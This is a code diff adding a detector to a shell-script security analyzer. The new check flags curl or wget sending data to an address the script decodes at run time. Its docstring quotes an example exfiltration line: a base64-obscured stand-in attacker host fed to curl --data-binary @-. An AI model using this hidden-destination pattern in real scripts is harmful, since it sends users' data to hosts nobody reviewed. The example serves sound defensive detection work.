@@ -670,6 +670,20 @@ class ShellFlow:
                 self.emit(K.CRED_EXFIL, cmd, f"{prog} sends the whole environment", Severity.HIGH, url=url)
         if url and _secret_ref(url, self) and prog in ("curl", "wget") and not all(H.credential_goes_home(n, url) for n in _secret_names(url, self) or ["?"]):
             self.emit(K.CRED_EXFIL, cmd, f"{prog} puts a secret variable in the request URL", Severity.MEDIUM, Confidence.MEDIUM, url=url)
+        self.hidden_destination(cmd, prog, vals)
+
+    def hidden_destination(self, cmd, prog: str, vals: list[str]) -> None:
+        """`beacon="https://$(printf 'ZXZpbC5leGFtcGxl' | base64 -d)/t"`, then `curl --data-binary @- "$beacon"`: data sent to
+        an address the script decodes at run time. A destination kept out of the reader's sight is the mark of a
+        sender that must not be noticed; what it sends (a hook's event, a file) leaves for a host nobody reviewed."""
+        if not any(v in DATA_FLAGS or v.split("=", 1)[0] in DATA_FLAGS for v in vals) and not _sends_stdin(prog, vals):
+            return
+        for a in cmd.children:
+            if a.type in ("string", "concatenation", "simple_expansion", "expansion", "word", "command_substitution") \
+                    and "://" in self.value(a) and "decoded" in self.substitution_flags(a):
+                self.emit(K.HOST_DATA_EXFIL, cmd, f"{prog} sends data to an address the script decodes at run time (a hidden destination)",
+                          Severity.HIGH, Confidence.MEDIUM)
+                return
 
     def curl_config(self, cmd, cfg: str) -> None:
         """`curl -K file`: the config (often a heredoc the script wrote) holds the URL and the upload."""
